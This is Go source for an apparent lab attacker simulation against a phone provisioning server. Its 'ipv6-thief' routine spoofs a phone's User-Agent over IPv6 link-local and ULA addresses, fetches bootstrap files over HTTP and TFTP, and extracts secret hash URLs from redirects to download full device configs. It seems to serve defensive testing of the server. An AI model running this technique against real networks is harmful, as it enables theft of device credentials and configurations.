package phone

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"time"
)

// IPv6Thief knows an open device's MAC and vendor (read off its label)
// and sends its exact User-Agent, but from its own MAC and over IPv6: it
// asks over link-local (fe80::, no address configuration at all) for the
// device's bootstrap file, HTTP and TFTP, and over TFTP again from a ULA
// of the LAN's /64, then follows any redirect to the full config. No
// DHCPv4 lease can vouch for it; the server's NDP table shows its own MAC.
// Only the fail-closed neighbour check stops it when no lease check runs.
const IPv6Thief = "ipv6-thief"

// ipv6Steal is IPv6Thief's attack. a.HTTP and a.TFTP are the server's
// link-local bases (http://[fe80::1%25eth0]/); a.Static is the ULA it sets
// itself ("fd00:1:2::50/64"), the server's being ::1 of that /64.
func (a *Attacker) ipv6Steal(ctx context.Context, r *Attack, p *Profile, tmac net.HardwareAddr) error {
	if err := a.waitLinkLocal(ctx, 10*time.Second); err != nil {
		return err
	}
	r.IP = a.ownLinkLocal()
	ua := p.UA(tmac)
	a.grab(ctx, r, p, tmac, ua, a.HTTP)
	// pin/tftp answers link-local TFTP only in single-port mode: one try,
	// then the ULA, which it always answers.
	c := a.client(p, ua)
	c.Get(ctx, a.TFTP+macFile(p, tmac))
	r.Requests = append(r.Requests, c.Log...)
	if a.Static == "" {
		return nil
	}
	srv, err := a.setULA()
	if err != nil {
		return err
	}
	a.grab(ctx, r, p, tmac, ua, "tftp://["+srv.String()+"]/")
	return nil
}

// secretRef finds a secret URL in a redirect, whatever the vendor's
// syntax: scheme and host, then /<account hash>/<device hash>/ and maybe
// a file.
var secretRef = regexp.MustCompile(`(?:https?|tftp)://[^/\s"'<>]+(/[A-Za-z0-9_-]{24}/[A-Za-z0-9_-]{24}/[^\s"'<>]*)`)

// grab walks the vendor's files at base and follows any secret URL the
// answers reveal, aimed at base: the redirect names the server's IPv4
// address, which this host does not have, but the path is all it needs.
func (a *Attacker) grab(ctx context.Context, r *Attack, p *Profile, mac net.HardwareAddr, ua, base string) {
	c := a.client(p, ua)
	defer func() { r.Requests = append(r.Requests, c.Log...) }()
	p.walk(ctx, c, mac, Target{Base: base}) //nolint:errcheck // what it got is in c.Log
	seen := map[string]bool{}
	for _, f := range slices.Clone(c.Log) {
		for _, m := range secretRef.FindAllSubmatch(f.Body, -1) {
			path := string(m[1])
			if seen[path] {
				continue
			}
			seen[path] = true
			r.SecretURLs = append(r.SecretURLs, string(m[0]))
			full, _ := p.walk(ctx, c, mac, secretTarget(base, path))
			r.Lines = append(r.Lines, p.dialect.lines(full.Settings)...)
		}
	}
}

// secretTarget aims a secret path at base: its file if it names one
// plainly, else the vendor's file names under its directory (a file
// like $MA.xml is the phone's to expand).
func secretTarget(base, path string) Target {
	const dirLen = 1 + 24 + 1 + 24 + 1 // /<hash>/<hash>/
	dir := strings.TrimSuffix(base, "/") + path[:dirLen]
	if file := path[dirLen:]; file != "" && !strings.ContainsAny(file, "$%{") {
		return Target{File: dir + file}
	}
	return Target{Base: dir}
}

// waitLinkLocal waits (bounded) until this host can send from its
// link-local address: duplicate address detection keeps a fresh one
// tentative for about a second.
func (a *Attacker) waitLinkLocal(ctx context.Context, timeout time.Duration) error {
	u, err := url.Parse(a.HTTP)
	if err != nil || u.Hostname() == "" {
		return fmt.Errorf("%s: -http must be the server's link-local base URL, got %q", a.Role, a.HTTP)
	}
	dst := net.JoinHostPort(u.Hostname(), "9")
	deadline := time.Now().Add(timeout)
	for {
		c, err := net.Dial("udp6", dst)
		if err == nil {
			c.Close()
			return nil
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return fmt.Errorf("no usable link-local address towards %s: %w", dst, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// ownLinkLocal is the link-local address of a.Iface, without its zone.
func (a *Attacker) ownLinkLocal() string {
	ifc, err := net.InterfaceByName(a.Iface)
	if err != nil {
		return ""
	}
	addrs, _ := ifc.Addrs()
	for _, ad := range addrs {
		if ipn, ok := ad.(*net.IPNet); ok && ipn.IP.To4() == nil && ipn.IP.IsLinkLocalUnicast() {
			return ipn.IP.String()
		}
	}
	return ""
}

// setULA puts a.Static on a.Iface (no duplicate detection: the lab hands
// out unique addresses) and returns the server's address, ::1 of its
// /64.
func (a *Attacker) setULA() (netip.Addr, error) {
	pfx, err := netip.ParsePrefix(a.Static)
	if err != nil || !pfx.Addr().Is6() || pfx.Bits() != 64 {
		return netip.Addr{}, fmt.Errorf("%s: -static must be an IPv6 address in a /64, got %q", a.Role, a.Static)
	}
	if err := ipCmd("addr", "add", pfx.String(), "dev", a.Iface, "nodad"); err != nil {
		return netip.Addr{}, err
	}
	b := pfx.Masked().Addr().As16()
	b[15] = 1
	return netip.AddrFrom16(b), nil
}

// LinkLocalBase is the URL base ("http://[fe80::1%25eth0]/") of the
// link-local address ip as reached through iface.
func LinkLocalBase(scheme string, ip netip.Addr, iface string) string {
	return scheme + "://[" + ip.WithZone("").String() + "%25" + iface + "]/"
}
